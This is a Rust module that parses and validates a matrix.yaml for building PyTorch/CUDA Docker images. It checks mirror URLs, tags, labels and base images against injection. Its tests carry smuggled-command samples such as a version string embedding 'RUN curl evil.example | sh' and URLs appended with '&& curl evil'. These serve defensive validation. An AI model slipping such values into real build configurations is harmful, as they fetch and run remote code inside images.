//! `matrix.yaml`: the images a team wants, as axes (`torch`, `cuda`, `cudnn`, `python`, `os`,
//! `variants`) plus `include`/`exclude` rules, the registry and repository, tag settings and mirrors.
//!
//! Loading is strict: an unknown key, a wrong type or a malformed version is an error naming the
//! file, line and column, with a hint (`did you mean torch?`). Every string that can reach a
//! Dockerfile is validated here, so the renderer only ever sees safe values. Versions are kept as
//! strings exactly as written (`12.10` stays `12.10`). This module does not touch Docker.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

pub use crate::model::axes::{DevelToolkit, OsName, Platform, TorchWheels, Variant, VersionText};
use crate::model::names::edit_distance;
use crate::model::version::TorchVersion;

/// An error in a matrix file, with where it is and what to do about it.
#[derive(Debug, thiserror::Error)]
pub enum MatrixError {
    #[error("cannot read matrix {path}: {source}")]
    Read {
        path: String,
        source: std::io::Error,
    },
    #[error("{path}{location}: {message}{hint}", location = location_suffix(*line, *column), hint = hint_suffix(hint))]
    Invalid {
        path: String,
        line: Option<usize>,
        column: Option<usize>,
        message: String,
        hint: Option<String>,
    },
}

fn location_suffix(line: Option<usize>, column: Option<usize>) -> String {
    match (line, column) {
        (Some(line), Some(column)) => format!(":{line}:{column}"),
        (Some(line), None) => format!(":{line}"),
        _ => String::new(),
    }
}

fn hint_suffix(hint: &Option<String>) -> String {
    hint.as_ref()
        .map(|h| format!("\nhint: {h}"))
        .unwrap_or_default()
}

/// An include or exclude rule: each present key narrows the cells it applies to.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct CellRule {
    #[serde(default)]
    pub torch: Option<VersionText>,
    #[serde(default)]
    pub cuda: Option<VersionText>,
    #[serde(default)]
    pub cudnn: Option<VersionText>,
    #[serde(default)]
    pub python: Option<VersionText>,
    #[serde(default)]
    pub os: Option<OsName>,
    #[serde(default)]
    pub variants: Option<Vec<Variant>>,
    #[serde(default)]
    pub platforms: Option<Vec<Platform>>,
}

/// Tag settings.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct TagSettings {
    /// The immutable full tag. Placeholders: {torch} {torch_series} {cuda} {cudnn_major} {cudnn}
    /// {python} {variant} {os}.
    #[serde(default = "default_full_tag")]
    pub full: String,
    /// The OS that short aliases (without an OS suffix) and `latest` point at; the newest OS of
    /// the matrix when absent.
    #[serde(default)]
    pub default_os: Option<OsName>,
    /// The Python that aliases point at when the matrix has several; the newest when absent.
    #[serde(default)]
    pub default_python: Option<VersionText>,
    /// Whether to give the newest stable torch with its default CUDA the `latest` alias.
    #[serde(default = "default_true")]
    pub latest: bool,
}

impl Default for TagSettings {
    fn default() -> Self {
        Self {
            full: default_full_tag(),
            default_os: None,
            default_python: None,
            latest: true,
        }
    }
}

fn default_full_tag() -> String {
    "{torch}-cuda{cuda}-cudnn{cudnn_major}-{variant}-{os}".to_string()
}

fn default_true() -> bool {
    true
}

/// Where images get their packages, for teams behind a proxy or air-gapped. Each host a build
/// reaches has a key here: the apt archives (Ubuntu's, its ports archive for arm64, Debian's,
/// NVIDIA's CUDA repository), the Python package indexes and the base image registry.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Mirrors {
    /// Base of the torch wheel indexes; `/cu126` etc. is appended. Default download.pytorch.org/whl.
    #[serde(default)]
    pub torch_index: Option<String>,
    /// A plain PyPI-style index for everything else (and for torch with `torch_wheels: pypi`).
    /// Default: https://pypi.org/simple.
    #[serde(default)]
    pub pip_index: Option<String>,
    /// An Ubuntu archive mirror replacing archive.ubuntu.com and security.ubuntu.com (amd64).
    #[serde(default)]
    pub apt: Option<String>,
    /// An Ubuntu ports archive mirror replacing ports.ubuntu.com/ubuntu-ports (arm64).
    #[serde(default)]
    pub apt_ports: Option<String>,
    /// A Debian archive mirror replacing deb.debian.org/debian (Debian bases).
    #[serde(default)]
    pub debian: Option<String>,
    /// A Debian security archive mirror replacing deb.debian.org/debian-security and
    /// security.debian.org/debian-security.
    #[serde(default)]
    pub debian_security: Option<String>,
    /// A mirror of NVIDIA's CUDA apt repositories replacing
    /// https://developer.download.nvidia.com/compute/cuda/repos (nvidia/cuda bases configure it).
    #[serde(default)]
    pub nvidia_apt: Option<String>,
    /// A registry prefix for the base images (`nvidia/cuda`), e.g. `mirror.example.com/dockerhub`.
    #[serde(default)]
    pub base_registry: Option<String>,
}

/// The base image of runtime images: one reference or pattern for every cell, or one per OS.
/// Patterns take `{cuda}` (13.0), `{cuda_full}` (13.0.0), `{os}` (ubuntu24.04) and `{arch}`
/// (amd64, arm64).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(untagged)]
pub enum BaseImageRule {
    Pattern(String),
    /// OS name → reference or pattern; cells of other OSes build on nvidia/cuda.
    ByOs(BTreeMap<String, String>),
}

/// The values a base image pattern can use.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BaseImageFields<'a> {
    pub cuda: &'a str,
    pub cuda_full: &'a str,
    pub os: &'a str,
    pub arch: &'a str,
}

/// The placeholders of base image patterns.
pub const BASE_IMAGE_PLACEHOLDERS: &[&str] = &["cuda", "cuda_full", "os", "arch"];

impl BaseImageRule {
    /// The base image of a cell, or `None` when this rule does not name one for its OS.
    pub fn image_for(&self, fields: &BaseImageFields<'_>) -> Option<String> {
        let pattern = match self {
            BaseImageRule::Pattern(pattern) => pattern,
            BaseImageRule::ByOs(by_os) => by_os.get(fields.os)?,
        };
        Some(
            pattern
                .replace("{cuda_full}", fields.cuda_full)
                .replace("{cuda}", fields.cuda)
                .replace("{os}", fields.os)
                .replace("{arch}", fields.arch),
        )
    }

    /// Every pattern with where it is written (`base_images.runtime` or `.runtime.debian12`).
    fn patterns(&self) -> Vec<(String, &str)> {
        match self {
            BaseImageRule::Pattern(pattern) => vec![(String::new(), pattern.as_str())],
            BaseImageRule::ByOs(by_os) => by_os
                .iter()
                .map(|(os, pattern)| (format!(".{os}"), pattern.as_str()))
                .collect(),
        }
    }
}

/// Base image overrides: use these instead of nvidia/cuda (internal bases, a Debian base, tests).
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct BaseImages {
    #[serde(default)]
    pub runtime: Option<BaseImageRule>,
}

impl BaseImages {
    /// Whether the matrix names the runtime base of cells of `os` (else they use nvidia/cuda).
    pub fn covers_os(&self, os: &str) -> bool {
        match &self.runtime {
            None => false,
            Some(BaseImageRule::Pattern(_)) => true,
            Some(BaseImageRule::ByOs(by_os)) => by_os.contains_key(os),
        }
    }

    /// The runtime base image the matrix names for a cell, if any.
    pub fn runtime_for(&self, fields: &BaseImageFields<'_>) -> Option<String> {
        self.runtime.as_ref()?.image_for(fields)
    }
}

/// The whole matrix file.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Matrix {
    /// Registry host, e.g. `ghcr.io` or `127.0.0.1:5000`.
    pub registry: String,
    /// Repository within the registry, e.g. `acme/pytorch`.
    pub repository: String,
    pub torch: Vec<VersionText>,
    pub cuda: Vec<VersionText>,
    /// cuDNN versions or majors; absent means the one the torch wheel bundles.
    #[serde(default)]
    pub cudnn: Vec<VersionText>,
    /// Python versions; absent means the Python the OS ships.
    #[serde(default)]
    pub python: Vec<VersionText>,
    pub os: Vec<OsName>,
    #[serde(default = "default_variants")]
    pub variants: Vec<Variant>,
    /// Target platforms. With more than `linux/amd64`, each image is built per platform under a
    /// `-amd64`/`-arm64` suffixed tag and `imagegen publish` assembles the full tag and its aliases
    /// as OCI image indexes.
    #[serde(default = "default_platforms")]
    pub platforms: Vec<Platform>,
    #[serde(default)]
    pub include: Vec<CellRule>,
    #[serde(default)]
    pub exclude: Vec<CellRule>,
    #[serde(default)]
    pub tags: TagSettings,
    #[serde(default)]
    pub mirrors: Mirrors,
    /// Extra OCI labels for every image (`org.opencontainers.image.vendor`, ...).
    #[serde(default)]
    pub labels: BTreeMap<String, String>,
    /// Allow knowledge entries marked `verified: false` (e.g. CUDA 13.2 driver minimum).
    #[serde(default)]
    pub allow_unverified: bool,
    /// A directory whose templates replace the embedded ones (`runtime.Dockerfile.j2`, ...),
    /// relative to the matrix file.
    #[serde(default)]
    pub templates: Option<PathBuf>,
    #[serde(default)]
    pub base_images: BaseImages,
    /// Where torch comes from: PyTorch's index (`pytorch`, default) or a plain PyPI-style index
    /// (`pypi`).
    #[serde(default)]
    pub torch_wheels: TorchWheels,
    /// Where devel images get nvcc: NVIDIA's apt repository (`apt`, default) or PyPI (`pypi`).
    #[serde(default)]
    pub devel_toolkit: DevelToolkit,
    /// A PEM file of CA certificates (a TLS-intercepting proxy's), relative to the matrix file:
    /// copied into each build context and installed into the image's system store, where it stays.
    #[serde(default)]
    pub ca_bundle: Option<PathBuf>,
    /// Whether every image installs its Python packages from a lock (`images/<name>/requirements.lock`).
    /// Default: yes when an embedded runtime or devel template is in use (they install from it);
    /// with templates of your own, `lock: true` makes imagegen lock and check them too.
    #[serde(default)]
    pub lock: Option<bool>,
    /// `file:line` of each `include` entry, so rejections can point at the rule that made them.
    #[serde(skip)]
    pub include_locations: Vec<String>,
}

fn default_variants() -> Vec<Variant> {
    vec![Variant::Runtime, Variant::Devel]
}

fn default_platforms() -> Vec<Platform> {
    vec![Platform::amd64()]
}

impl Matrix {
    /// Whether images are built per platform and published as indexes: any platform but amd64 alone.
    pub fn multi_platform(&self) -> bool {
        self.platforms
            .iter()
            .chain(
                self.include
                    .iter()
                    .filter_map(|r| r.platforms.as_ref())
                    .flatten(),
            )
            .any(|p| *p != Platform::amd64())
    }
}

/// Every top-level key, for "did you mean" hints.
const TOP_LEVEL_KEYS: &[&str] = &[
    "registry",
    "repository",
    "torch",
    "cuda",
    "cudnn",
    "python",
    "os",
    "variants",
    "include",
    "exclude",
    "tags",
    "mirrors",
    "labels",
    "allow_unverified",
    "templates",
    "base_images",
    "torch_wheels",
    "devel_toolkit",
    "ca_bundle",
    "lock",
];

impl Matrix {
    /// Reads and validates the matrix at `path`.
    pub fn load(path: &Path) -> Result<Matrix, MatrixError> {
        let text = std::fs::read_to_string(path).map_err(|source| MatrixError::Read {
            path: path.display().to_string(),
            source,
        })?;
        let mut matrix = Self::parse(&text, &path.display().to_string())?;
        let directory = path.parent().unwrap_or(Path::new("."));
        for relative in [&mut matrix.templates, &mut matrix.ca_bundle]
            .into_iter()
            .flatten()
        {
            if relative.is_relative() {
                *relative = directory.join(&*relative);
            }
        }
        Ok(matrix)
    }

    /// Parses matrix text; `path` is only used in messages.
    pub fn parse(text: &str, path: &str) -> Result<Matrix, MatrixError> {
        let matrix: Matrix = serde_yaml::from_str(text).map_err(|error| {
            let message = error.to_string();
            let (line, column) = match error.location() {
                Some(at) => (Some(at.line()), Some(at.column())),
                None => (None, None),
            };
            // serde_yaml appends " at line L column C"; the location already leads the message.
            let message = match message.find(" at line ") {
                Some(index) => message[..index].to_string(),
                None => message,
            };
            let hint = unknown_field_hint(&message).or_else(|| {
                message
                    .contains("expected a sequence")
                    .then(|| "axes are lists: write `cuda: [\"12.6\"]`".to_string())
            });
            MatrixError::Invalid {
                path: path.to_string(),
                line,
                column,
                message,
                hint,
            }
        })?;
        let mut matrix = matrix;
        matrix.validate(text, path)?;
        matrix.include_locations = list_item_lines(text, "include")
            .into_iter()
            .map(|line| format!("{path}:{line}"))
            .collect();
        Ok(matrix)
    }

    /// Checks what serde cannot: non-empty axes, torch versions, safe strings.
    fn validate(&self, text: &str, path: &str) -> Result<(), MatrixError> {
        let invalid = |key: &str, needle: &str, message: String, hint: Option<String>| {
            let (line, column) = find_location(text, key, needle);
            MatrixError::Invalid {
                path: path.to_string(),
                line,
                column,
                message,
                hint,
            }
        };
        for (key, empty) in [
            ("torch", self.torch.is_empty()),
            ("cuda", self.cuda.is_empty()),
            ("os", self.os.is_empty()),
            ("variants", self.variants.is_empty()),
            ("platforms", self.platforms.is_empty()),
        ] {
            if empty {
                return Err(invalid(
                    key,
                    "",
                    format!("`{key}` is empty: list at least one value"),
                    None,
                ));
            }
        }
        for torch in self
            .torch
            .iter()
            .chain(self.include.iter().filter_map(|r| r.torch.as_ref()))
        {
            TorchVersion::parse(&torch.0)
                .map_err(|e| invalid("torch", &torch.0, e.to_string(), None))?;
        }
        check_reference_part("registry", &self.registry, true)
            .map_err(|m| invalid("registry", &self.registry, m, None))?;
        check_reference_part("repository", &self.repository, false).map_err(|m| {
            invalid(
                "repository",
                &self.repository,
                m,
                Some("lowercase letters, digits, `.`, `_`, `-` and `/`".into()),
            )
        })?;
        if !self
            .repository
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "._-/".contains(c))
        {
            return Err(invalid(
                "repository",
                &self.repository,
                format!("repository {:?} must be lowercase", self.repository),
                None,
            ));
        }
        let mirrors = [
            ("torch_index", &self.mirrors.torch_index),
            ("pip_index", &self.mirrors.pip_index),
            ("apt", &self.mirrors.apt),
            ("apt_ports", &self.mirrors.apt_ports),
            ("debian", &self.mirrors.debian),
            ("debian_security", &self.mirrors.debian_security),
            ("nvidia_apt", &self.mirrors.nvidia_apt),
        ];
        for (key, value) in mirrors {
            if let Some(url) = value {
                check_url(url)
                    .map_err(|m| invalid(key, url, format!("mirrors.{key}: {m}"), None))?;
                // apt mirrors are written into a `sed` expression delimited by `#`.
                if !key.contains("index") && url.contains('#') {
                    return Err(invalid(
                        key,
                        url,
                        format!("mirrors.{key}: {url:?} contains '#', which is not allowed in an apt mirror URL"),
                        None,
                    ));
                }
            }
        }
        if let Some(prefix) = &self.mirrors.base_registry {
            check_reference_part("base_registry", prefix, true)
                .map_err(|m| invalid("base_registry", prefix, format!("mirrors.{m}"), None))?;
        }
        if let Some(rule) = &self.base_images.runtime {
            for (suffix, pattern) in rule.patterns() {
                let os = suffix.trim_start_matches('.');
                if !os.is_empty() {
                    serde_yaml::from_str::<OsName>(os).map_err(|e| {
                        invalid(
                            os,
                            "",
                            format!("base_images.runtime: {}", e.to_string().trim()),
                            None,
                        )
                    })?;
                }
                check_base_image_pattern(pattern).map_err(|m| {
                    invalid(
                        if os.is_empty() { "runtime" } else { os },
                        pattern,
                        format!("base_images.runtime{suffix}: {m}"),
                        Some(format!(
                            "placeholders: {}",
                            BASE_IMAGE_PLACEHOLDERS
                                .iter()
                                .map(|p| format!("{{{p}}}"))
                                .collect::<Vec<_>>()
                                .join(" ")
                        )),
                    )
                })?;
            }
        }
        if let Some(path) = &self.ca_bundle {
            if path.as_os_str().is_empty() {
                return Err(invalid(
                    "ca_bundle",
                    "",
                    "ca_bundle is empty: name a PEM file of CA certificates".into(),
                    None,
                ));
            }
        }
        for (key, value) in &self.labels {
            check_label(key, value).map_err(|m| invalid(key, "", m, None))?;
        }
        check_tag_template(&self.tags.full)
            .map_err(|m| invalid("full", "", format!("tags.full: {m}"), None))?;
        Ok(())
    }
}

/// The 1-based lines of the items of the top-level list `key` (block `- ...` items or a flow
/// `[{...}, {...}]` list on the key's own line, one item per `{`).
fn list_item_lines(text: &str, key: &str) -> Vec<usize> {
    let lines: Vec<&str> = text.lines().collect();
    let Some(start) = lines.iter().position(|l| l.starts_with(&format!("{key}:"))) else {
        return Vec::new();
    };
    let rest = lines[start][key.len() + 1..].trim();
    if rest.starts_with('[') {
        return vec![start + 1; rest.matches('{').count()];
    }
    let mut items = Vec::new();
    for (offset, line) in lines[start + 1..].iter().enumerate() {
        let trimmed = line.trim_start();
        if !line.is_empty() && !line.starts_with(' ') && !line.starts_with('#') {
            break;
        }
        if trimmed.starts_with("- ") || trimmed == "-" {
            let indent = line.len() - trimmed.len();
            // Only items of this list, not of lists nested inside its items.
            if items.is_empty() || indent <= 2 {
                items.push(start + offset + 2);
            }
        }
    }
    items
}

/// `did you mean` for serde's "unknown field `x`, expected one of ..." messages.
fn unknown_field_hint(message: &str) -> Option<String> {
    let rest = message.split("unknown field `").nth(1)?;
    let unknown = rest.split('`').next()?;
    let candidates: Vec<String> = match rest.split("expected one of ").nth(1) {
        Some(list) => list
            .split(", ")
            .map(|c| c.trim_matches(|ch| ch == '`' || ch == ' ').to_string())
            .collect(),
        None => match rest.split("expected `").nth(1) {
            Some(single) => vec![single.trim_end_matches('`').to_string()],
            None => TOP_LEVEL_KEYS.iter().map(|s| s.to_string()).collect(),
        },
    };
    let best = candidates
        .iter()
        .min_by_key(|c| edit_distance(unknown, c))?;
    if edit_distance(unknown, best) <= 2.max(unknown.len() / 3) {
        Some(format!("did you mean `{best}`?"))
    } else {
        Some(format!("known keys here: {}", candidates.join(", ")))
    }
}

/// The 1-based line and column of the first line holding `key:` (and `needle`, when given).
fn find_location(text: &str, key: &str, needle: &str) -> (Option<usize>, Option<usize>) {
    for (index, line) in text.lines().enumerate() {
        if let Some(key_at) = line.find(&format!("{key}:")) {
            if needle.is_empty() || line.contains(needle) {
                let column = if needle.is_empty() {
                    key_at
                } else {
                    line.find(needle).unwrap_or(key_at)
                };
                return (Some(index + 1), Some(column + 1));
            }
        }
    }
    // The needle may be in a list on following lines; fall back to the needle alone.
    if !needle.is_empty() {
        let first_line = needle.lines().next().unwrap_or(needle);
        for (index, line) in text.lines().enumerate() {
            if let Some(at) = line.find(first_line) {
                return (Some(index + 1), Some(at + 1));
            }
        }
    }
    (None, None)
}

/// A registry host (`ghcr.io`, `127.0.0.1:5000`) or repository path (`acme/pytorch`).
fn check_reference_part(what: &str, value: &str, is_host: bool) -> Result<(), String> {
    if value.is_empty() {
        return Err(format!("{what} is empty"));
    }
    let allowed =
        |c: char| c.is_ascii_alphanumeric() || "._-/".contains(c) || (is_host && c == ':');
    if let Some(bad) = value.chars().find(|c| !allowed(*c)) {
        return Err(format!(
            "{what} {value:?} contains {bad:?}, which is not allowed in an image reference"
        ));
    }
    if value.starts_with(['/', '-', '.'])
        || value.ends_with(['/', '-', '.'])
        || value.contains("//")
    {
        return Err(format!(
            "{what} {value:?} is not a valid image reference part"
        ));
    }
    Ok(())
}

/// A base image pattern: known placeholders only, and a valid image reference once filled in.
fn check_base_image_pattern(pattern: &str) -> Result<(), String> {
    let mut rest = pattern;
    while let Some(open) = rest.find('{') {
        let close = rest[open..]
            .find('}')
            .ok_or_else(|| format!("{pattern:?} has an unclosed `{{`"))?
            + open;
        let name = &rest[open + 1..close];
        if !BASE_IMAGE_PLACEHOLDERS.contains(&name) {
            return Err(format!("unknown placeholder {{{name}}} in {pattern:?}"));
        }
        rest = &rest[close + 1..];
    }
    let sample = BaseImageRule::Pattern(pattern.to_string())
        .image_for(&BaseImageFields {
            cuda: "13.0",
            cuda_full: "13.0.0",
            os: "ubuntu24.04",
            arch: "amd64",
        })
        .unwrap_or_default();
    check_image_reference(&sample)
}

/// A full image reference `host/repo:tag` or `repo@sha256:...`.
pub fn check_image_reference(value: &str) -> Result<(), String> {
    let allowed = |c: char| c.is_ascii_alphanumeric() || "._-/:@".contains(c);
    if value.is_empty() || value.chars().any(|c| !allowed(c)) || value.starts_with('-') {
        return Err(format!("{value:?} is not a valid image reference"));
    }
    Ok(())
}

/// An http(s) URL with no character that could escape a Dockerfile line or a shell word.
fn check_url(url: &str) -> Result<(), String> {
    if !(url.starts_with("http://") || url.starts_with("https://")) {
        return Err(format!("{url:?} must start with http:// or https://"));
    }
    let allowed = |c: char| c.is_ascii_alphanumeric() || "-._~:/?#[]@!&'()*+,;=%".contains(c);
    if let Some(bad) = url.chars().find(|c| !allowed(*c) || *c == '\'') {
        return Err(format!(
            "{url:?} contains {bad:?}, which is not allowed in a mirror URL"
        ));
    }
    Ok(())
}

/// A label key in reverse-DNS form and a value without quotes, backslashes, `$` or control characters.
fn check_label(key: &str, value: &str) -> Result<(), String> {
    if key.is_empty()
        || !key
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
    {
        return Err(format!(
            "label key {key:?} may contain only letters, digits, `.`, `_` and `-`"
        ));
    }
    check_free_text(&format!("label {key}"), value)
}

/// Free text that is quoted in a Dockerfile: no `"`, `\`, `$`, backtick or control characters.
pub fn check_free_text(what: &str, value: &str) -> Result<(), String> {
    if let Some(bad) = value
        .chars()
        .find(|c| c.is_control() || "\"\\$`".contains(*c))
    {
        return Err(format!(
            "{what} {value:?} contains {bad:?}, which is not allowed in a Dockerfile value"
        ));
    }
    Ok(())
}

/// Tag templates may use only known placeholders and produce valid tag characters.
fn check_tag_template(template: &str) -> Result<(), String> {
    const PLACEHOLDERS: &[&str] = &[
        "torch",
        "torch_series",
        "cuda",
        "cudnn_major",
        "cudnn",
        "python",
        "variant",
        "os",
    ];
    let mut rest = template;
    let mut literal = String::new();
    while let Some(open) = rest.find('{') {
        literal.push_str(&rest[..open]);
        let close = rest[open..]
            .find('}')
            .ok_or_else(|| format!("{template:?} has an unclosed `{{`"))?
            + open;
        let name = &rest[open + 1..close];
        if !PLACEHOLDERS.contains(&name) {
            return Err(format!(
                "unknown placeholder {{{name}}} (known: {})",
                PLACEHOLDERS.join(", ")
            ));
        }
        rest = &rest[close + 1..];
    }
    literal.push_str(rest);
    if let Some(bad) = literal
        .chars()
        .find(|c| !(c.is_ascii_alphanumeric() || "._-".contains(*c)))
    {
        return Err(format!(
            "{template:?} contains {bad:?}, which is not allowed in a tag"
        ));
    }
    if !template.contains("{variant}") {
        return Err(format!(
            "{template:?} must contain {{variant}} so runtime and devel images get different tags"
        ));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    const MINIMAL: &str = "registry: ghcr.io\nrepository: acme/pytorch\ntorch: [\"2.7\"]\ncuda: [\"12.6\"]\nos: [ubuntu24.04]\n";

    fn error_of(text: &str) -> String {
        Matrix::parse(text, "matrix.yaml").unwrap_err().to_string()
    }

    #[test]
    fn minimal_matrix_gets_defaults() {
        let matrix = Matrix::parse(MINIMAL, "matrix.yaml").unwrap();
        assert_eq!(matrix.variants, vec![Variant::Runtime, Variant::Devel]);
        assert!(matrix.tags.latest);
        assert!(matrix.cudnn.is_empty());
    }

    #[test]
    fn unquoted_versions_stay_as_written() {
        let text = MINIMAL.replace("cuda: [\"12.6\"]", "cuda: [12.10, 12.6]");
        let matrix = Matrix::parse(&text, "matrix.yaml").unwrap();
        assert_eq!(matrix.cuda[0].0, "12.10");
    }

    #[test]
    fn unknown_key_names_line_column_and_suggestion() {
        let error = error_of(&MINIMAL.replace("torch:", "torhc:"));
        assert!(
            error.starts_with("matrix.yaml:3:1: unknown field `torhc`"),
            "{error}"
        );
        assert!(error.contains("hint: did you mean `torch`?"), "{error}");
        let nested = error_of(&format!("{MINIMAL}tags:\n  ful: x\n"));
        assert!(nested.contains("matrix.yaml:7:3"), "{nested}");
        assert!(nested.contains("did you mean `full`?"), "{nested}");
    }

    #[test]
    fn malformed_versions_are_located() {
        let error = error_of(&MINIMAL.replace("cuda: [\"12.6\"]", "cuda: [\"12.6\", \"12.x\"]"));
        assert!(error.starts_with("matrix.yaml:4:"), "{error}");
        assert!(error.contains("malformed version \"12.x\""), "{error}");
        let error = error_of(&MINIMAL.replace("ubuntu24.04", "centos7"));
        assert!(error.contains("malformed OS \"centos7\""), "{error}");
        Matrix::parse(&MINIMAL.replace("ubuntu24.04", "debian12"), "matrix.yaml").unwrap();
    }

    #[test]
    fn wrong_types_get_a_hint() {
        let error = error_of(&MINIMAL.replace("cuda: [\"12.6\"]", "cuda: \"12.6\""));
        assert!(error.contains("matrix.yaml:4:"), "{error}");
        assert!(error.contains("expected a sequence"), "{error}");
        assert!(error.contains("hint: axes are lists"), "{error}");
    }

    #[test]
    fn injection_attempts_are_rejected() {
        let error =
            error_of(&MINIMAL.replace("[\"2.7\"]", "[\"2.7.0\\nRUN curl evil.example | sh\"]"));
        assert!(error.contains("malformed version"), "{error}");
        let error = error_of(&MINIMAL.replace("acme/pytorch", "\"acme/pytorch\\nRUN x\""));
        assert!(
            error.contains("not allowed in an image reference"),
            "{error}"
        );
        let error = error_of(&format!(
            "{MINIMAL}mirrors:\n  pip_index: \"https://x.example/simple && curl evil\"\n"
        ));
        assert!(error.contains("mirrors.pip_index"), "{error}");
        let error = error_of(&format!(
            "{MINIMAL}labels:\n  org.example.team: \"a\\\"\\nRUN x\"\n"
        ));
        assert!(
            error.contains("not allowed in a Dockerfile value"),
            "{error}"
        );
        let error = error_of(&format!(
            "{MINIMAL}tags:\n  full: \"{{torch}}-{{nope}}-{{variant}}\"\n"
        ));
        assert!(error.contains("unknown placeholder {nope}"), "{error}");
    }

    #[test]
    fn empty_axes_and_bad_torch_are_rejected() {
        let error = error_of(&MINIMAL.replace("[\"12.6\"]", "[]"));
        assert!(error.contains("`cuda` is empty"), "{error}");
        let error = error_of(&MINIMAL.replace("[\"2.7\"]", "[\"2\"]"));
        assert!(error.contains("matrix.yaml:3:"), "{error}");
        assert!(error.contains("torch"), "{error}");
    }

    #[test]
    fn base_images_are_patterns_or_maps_by_os() {
        let matrix = Matrix::parse(
            &format!("{MINIMAL}base_images:\n  runtime: {{debian12: \"local/bookworm:{{cuda_full}}-{{arch}}\", ubuntu24.04: \"ghcr.io/x/cuda:{{cuda}}\"}}\n"),
            "matrix.yaml",
        )
        .unwrap();
        let fields = |os| BaseImageFields {
            cuda: "13.0",
            cuda_full: "13.0.0",
            os,
            arch: "arm64",
        };
        assert_eq!(
            matrix
                .base_images
                .runtime_for(&fields("debian12"))
                .as_deref(),
            Some("local/bookworm:13.0.0-arm64")
        );
        assert_eq!(matrix.base_images.runtime_for(&fields("ubuntu22.04")), None);
        assert!(matrix.base_images.covers_os("ubuntu24.04"));
        assert!(!matrix.base_images.covers_os("ubuntu22.04"));
        let error = error_of(&format!(
            "{MINIMAL}base_images:\n  runtime: \"x/cuda:{{cuda_version}}\"\n"
        ));
        assert!(
            error.contains("unknown placeholder {cuda_version}"),
            "{error}"
        );
        assert!(
            error.contains("hint: placeholders: {cuda} {cuda_full} {os} {arch}"),
            "{error}"
        );
        let error = error_of(&format!(
            "{MINIMAL}base_images:\n  runtime: {{centos7: \"x/y:1\"}}\n"
        ));
        assert!(error.contains("malformed OS \"centos7\""), "{error}");
        let error = error_of(&format!(
            "{MINIMAL}base_images:\n  runtime: \"x/y:1 && curl\"\n"
        ));
        assert!(error.contains("not a valid image reference"), "{error}");
    }

    #[test]
    fn the_lock_wheel_toolkit_and_ca_settings_parse() {
        let matrix = Matrix::parse(
            &format!("{MINIMAL}torch_wheels: pypi\ndevel_toolkit: pypi\nca_bundle: certs/ca.pem\nlock: true\nmirrors:\n  apt_ports: http://m.example/ubuntu-ports\n  debian: http://m.example/debian\n  debian_security: http://m.example/debian-security\n  nvidia_apt: https://m.example/nvidia\n"),
            "matrix.yaml",
        )
        .unwrap();
        assert_eq!(matrix.torch_wheels, TorchWheels::Pypi);
        assert_eq!(matrix.devel_toolkit, DevelToolkit::Pypi);
        assert_eq!(matrix.ca_bundle.as_deref(), Some(Path::new("certs/ca.pem")));
        assert_eq!(matrix.lock, Some(true));
        let error = error_of(&format!("{MINIMAL}torch_wheels: conda\n"));
        assert!(error.contains("unknown variant `conda`"), "{error}");
        let error = error_of(&format!(
            "{MINIMAL}mirrors:\n  apt_ports: \"http://m.example/ports#x\"\n"
        ));
        assert!(
            error.contains("not allowed in an apt mirror URL"),
            "{error}"
        );
        // Relative to the matrix file.
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("matrix.yaml");
        std::fs::write(&path, format!("{MINIMAL}ca_bundle: certs/ca.pem\n")).unwrap();
        assert_eq!(
            Matrix::load(&path).unwrap().ca_bundle.unwrap(),
            dir.path().join("certs/ca.pem")
        );
    }

    #[test]
    fn include_entries_are_located() {
        let text = format!("{MINIMAL}include:\n  - {{torch: \"2.7.0\", cuda: \"12.4\", os: ubuntu22.04}}\n  # a comment\n  - torch: \"2.7.1\"\n    cuda: \"12.8\"\n    os: ubuntu24.04\n    variants: [runtime]\n");
        let matrix = Matrix::parse(&text, "m.yaml").unwrap();
        assert_eq!(matrix.include_locations, vec!["m.yaml:7", "m.yaml:9"]);
        assert_eq!(
            list_item_lines("include: [{torch: \"2.7\"}, {torch: \"2.8\"}]\n", "include"),
            vec![1, 1]
        );
    }
}
